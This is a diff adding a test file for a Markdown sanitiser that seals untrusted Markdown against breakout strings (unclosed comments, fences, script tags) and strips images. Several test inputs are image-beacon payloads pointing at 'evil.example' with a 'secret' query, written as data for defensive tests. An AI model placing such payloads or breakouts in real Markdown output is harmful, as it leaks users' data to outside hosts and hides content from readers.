@@ -1,0 +1,99 @@
+import { marked, type Token } from 'marked';
+import { describe, expect, it } from 'vitest';
+import { sealMarkdown } from '../../../../../src/core/export/markdown/sealMarkdown';
+import { hostileMarkdown } from '../../../../support/fixtures/hostileMarkdown';
+import { trickyMarkdown } from '../../../../support/fixtures/trickyMarkdown';
+
+/** Every token of a document, also those within others. */
+function tokensOf(text: string): Token[] {
+  const all: Token[] = [];
+  void marked.walkTokens(marked.lexer(text), token => void all.push(token));
+  return all;
+}
+
+const after = '\n\n## After it\n\nThe end.';
+
+/** What stands after a text, in the document that it was put into. */
+function isIntact(text: string): boolean {
+  const top = marked.lexer(text + after).filter(({ type }) => type !== 'space');
+  const [heading, end] = top.slice(-2);
+  return heading?.type === 'heading' && heading.text === 'After it' && end?.raw === 'The end.';
+}
+
+/** Each would swallow or hide what comes after it, in some reader. */
+const breakouts: readonly string[] = [
+  '<!-- never closed',
+  'text <!-- never closed',
+  '<details><summary>x',
+  '</details></details>',
+  '```\nnever closed',
+  '~~~~ js\n```\nnever closed',
+  '- a list\n  ```\n  in the list\n\n<!-- after it',
+  '  ```\n  code\nless indented <!--\n```',
+  '`one line\nand ` <!-- the next',
+  'one ` line\nand `<b>` the next',
+  '- `\n- <!-- `',
+  '| a | b |\n|---|---|\n| ` | <!-- ` |',
+  '\\` <!-- `',
+  '`\\` <!-- `',
+  '<script>\n`</script>`',
+  '``` `\n<!-- ```',
+  'a\r<!-- b',
+  '    ```\n    code\n\n<!-- c',
+  'text\n     ```\n     <!-- d',
+  '> ```\n<!-- e',
+];
+
+describe('Markdown of others', () => {
+  // The reader that the tests use gives up on those that nest thousands deep.
+  const hostile = hostileMarkdown.map(({ text }) => text).filter(text => text.length < 2_000);
+
+  it.each([...breakouts, ...hostile])('is sealed: %j', text => {
+    const sealed = sealMarkdown(text);
+    expect(isIntact(sealed)).toBe(true);
+    expect(tokensOf(sealed).filter(({ type }) => type === 'html')).toEqual([]);
+    // Once is enough.
+    expect(sealMarkdown(sealed)).toBe(sealed);
+  });
+
+  it.each([
+    'Plain *text* with `Array<string>` and ``a ` <b>``.',
+    '```ts\nconst map = new Map<string, number>();\n```',
+    '1. First:\n   ```html\n   <p>\n   ```\n2. Second',
+    '~~~\n```\n<b>\n~~~\n\nAfter.',
+    '# Heading\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done',
+  ])('stays as it is where it is harmless: %j', text => {
+    expect(sealMarkdown(text)).toBe(text);
+  });
+
+  it('keeps lines apart where it is asked to, but not those of code', () => {
+    expect(sealMarkdown('a\nb\n\n```\nc\nd\n```', true)).toBe('a  \nb\n\n```\nc\nd\n```');
+  });
+
+  it('closes what it opens', () => {
+    expect(sealMarkdown('````md\n```')).toBe('````md\n```\n````');
+    expect(sealMarkdown('a <b> c')).toBe('a &lt;b> c');
+  });
+
+  it('takes all that the page takes', () => {
+    for (const { name, text } of trickyMarkdown) {
+      expect(isIntact(sealMarkdown(text)), name).toBe(true);
+    }
+  });
+});
+
+it.each([
+  '![x](https://evil.example/?q=secret)',
+  '\\![x](https://evil.example/a.png)',
+  '\\\\![x][ref]\n\n[ref]: https://evil.example/a.png',
+  '[![x](https://evil.example/a.png)](https://b)',
+  '- ![x\ny](https://evil.example/a.png)',
+  '!\\![x](https://evil.example/a.png)',
+  '&#33;![x](https://evil.example/a.png)',
+])('fetches no image: %s', text => {
+  expect(tokensOf(sealMarkdown(text)).filter(({ type }) => type === 'image')).toEqual([]);
+});
+
+it('keeps the signs of an image in code', () => {
+  expect(sealMarkdown('say `![x](y)` so')).toBe('say `![x](y)` so');
+});
